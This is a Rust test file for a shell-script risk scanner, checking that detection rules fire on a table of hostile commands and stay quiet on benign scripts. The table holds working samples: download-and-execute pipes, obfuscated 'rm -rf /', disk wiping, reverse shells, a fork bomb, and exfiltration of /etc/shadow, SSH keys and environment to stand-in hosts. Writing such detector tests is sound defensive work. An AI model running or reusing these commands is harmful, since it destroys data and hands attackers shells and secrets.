use crate::{Language, Scan, ScanOptions, scan};

fn scan_text(code: &str) -> Scan {
    let options = ScanOptions {
        language: Some(Language::Shell),
        allowed_imports: None,
    };
    scan("x.sh", code.as_bytes(), &options)
}

/// Each script with one of the rules that it meets.
const RISKY: &[(&str, &str)] = &[
    ("curl -s http://a.b/c | sh", "executes-downloaded"),
    (
        "wget -qO- http://a.b/c | sudo bash -s",
        "executes-downloaded",
    ),
    (
        "bash -c \"$(curl -fsSL http://a.b/c)\"",
        "executes-downloaded",
    ),
    ("source <(curl http://a.b/c)", "executes-downloaded"),
    (
        "curl -o /tmp/x http://a.b/c; chmod +x /tmp/x; /tmp/x",
        "executes-downloaded",
    ),
    (
        "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
        "executes-decoded",
    ),
    ("eval \"$(echo cm0gLXJmIC8= | base64 -d)\"", "destroys"),
    ("echo 726d | xxd -r -p | sh", "executes-decoded"),
    (
        "echo H4sIAAAAAAACAyvKVdAtSlPQ5wIAAOnmUAkAAAA= | base64 -d | gunzip | sh",
        "destroys",
    ),
    (
        "echo /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAIcm0gLXJmIC8KAAAAAObZQrxaZSs3AAEhCWwYxdUftvN9AQAAAAAEWVo= | base64 -d | xz -dc | sh",
        "destroys",
    ),
    (r#"echo OJWSALLSMYQC6CQ= | base32 -d | sh"#, "destroys"),
    (
        r#"echo E9MI0BBICOG2U2G= | basenc --base32hex --decode | sh"#,
        "destroys",
    ),
    (
        r#"echo 726D202D7266202F0A | basenc -d --base16 | sh"#,
        "destroys",
    ),
    (
        r#"eval "$(printf '\162\155\040\055\162\146\040\057')""#,
        "destroys",
    ),
    (
        r#"eval "$(echo -e '\0162\0155\0040\0055\0162\0146\0040\0057')""#,
        "destroys",
    ),
    (
        r#"echo 'ez -es /' | tr A-Za-z N-ZA-Mn-za-m | sh"#,
        "destroys",
    ),
    ("x=$(echo aWQ= | base64 --decode); $x", "executes-decoded"),
    ("$'\\x72\\x6d\\x20' -rf /", "hides-name"),
    ("a=rm; b='-rf /'; $a $b", "destroys"),
    ("sudo rm -rf /*", "destroys"),
    ("dd if=/dev/zero of=/dev/sda", "destroys"),
    ("find / -delete", "destroys"),
    ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "reverse-shell"),
    ("nc -e /bin/sh 1.2.3.4 99", "reverse-shell"),
    ("cat /etc/shadow", "reads-secret"),
    ("f=~/.ssh/id_rsa; tar c $f | nc a.b 99", "sends-secret"),
    ("curl -d @/etc/shadow http://a.b", "sends-secret"),
    (
        "send() {\n  curl --data-binary @\"$1\" http://a.b\n}\nsend /etc/shadow",
        "sends-secret",
    ),
    ("env | curl -d @- http://a.b", "sends-environment"),
    ("echo x >> ~/.bashrc", "persists"),
    ("echo 'alias ls=\"rm -rf /\"' >> ~/.bashrc", "destroys"),
    ("(crontab -l; echo '* * * * * x') | crontab -", "persists"),
    (":(){ :|:& };:", "forks-without-end"),
    (
        "if [ $(date +%Y) -gt 2029 ]; then\n rm -rf /home\nfi",
        "acts-by-date",
    ),
    ("chmod u+s /bin/bash", "grants-root"),
    ("iptables -F", "weakens-defences"),
    ("history -c", "removes-traces"),
    (
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "destroys",
    ),
    ("python3 <<E\nopen('/etc/shadow')\nE\n", "reads-secret"),
    (
        "for f in /etc/shadow /etc/group; do cat $f; done",
        "reads-secret",
    ),
    ("cat ../../etc/group", "traverses-path"),
    ("echo 'abc", "not-parsed"),
];

#[test]
fn each_risky_script_meets_its_rule() {
    for (code, rule) in RISKY {
        let rules: Vec<&str> = scan_text(code)
            .findings
            .iter()
            .map(|finding| finding.rule)
            .collect();
        assert!(rules.contains(rule), "{code}\nhas {rules:?}, not {rule}");
    }
}

/// Honest scripts with the same programs.
const HONEST: &[&str] = &[
    "set -e\ncd \"$(dirname \"$0\")\"\nmake -j\"$(nproc)\" \"$@\"",
    "rm -rf build \"$tmp\" ./dist/*",
    "case \"$1\" in\n  start) echo a ;;\n  -h|--help) usage ;;\nesac",
    "echo hi > /dev/null 2>&1",
    "if [ -f x ]; then . ./x; fi",
    "date +%s; if [ \"$(date +%H)\" -gt 12 ]; then echo late; fi",
    "cat <<'E' > notes.txt\nrm -rf /\nE\n",
    "while read -r line; do echo \"${line%%=*}\"; done < input.txt",
    "echo aGk= | base64 -d",
    "f() { g \"$1\" | h; }\nf x",
    "x=$((1 < 2)); echo ${x:-it\\'s}",
];

#[test]
fn honest_scripts_have_no_findings() {
    for code in HONEST {
        assert_eq!(scan_text(code).findings, [], "{code}");
    }
}

#[test]
fn a_finding_says_where_it_is() {
    let scan = scan_text("x=1\n  if true; then\n    cat /etc/shadow\n  fi\n");
    let finding = &scan.findings[0];
    assert_eq!((finding.line, finding.column), (3, 5));
    assert_eq!(finding.says, "reads /etc/shadow: password hashes");
}

#[test]
fn deeply_nested_input_is_a_finding_and_never_the_end() {
    for deep in ["$(", "\"$(", "${a:-", "$(("] {
        let scan = scan_text(&deep.repeat(100_000));
        assert!(
            scan.findings
                .iter()
                .any(|finding| finding.rule == "too-nested"),
            "{deep}"
        );
    }
    scan_text(&"(".repeat(100_000));
    for flat in ["{ ", "if ", "! ", "case x in ", "a|", "f() { ", "eval "] {
        scan_text(&flat.repeat(3_000));
    }
    let wrapped = scan_text(&"sudo ".repeat(50_000));
    assert!(
        wrapped
            .findings
            .iter()
            .any(|finding| finding.rule == "too-much-work")
    );
    // As deep as is run through, and each level looks again at what is within.
    let deep = lex_depth();
    assert!(
        scan_text(&format!(
            "echo {}x{}",
            "$(a ".repeat(deep),
            ")".repeat(deep)
        ))
        .score
            < 50
    );
}

fn lex_depth() -> usize {
    super::lex::NESTED - 1
}
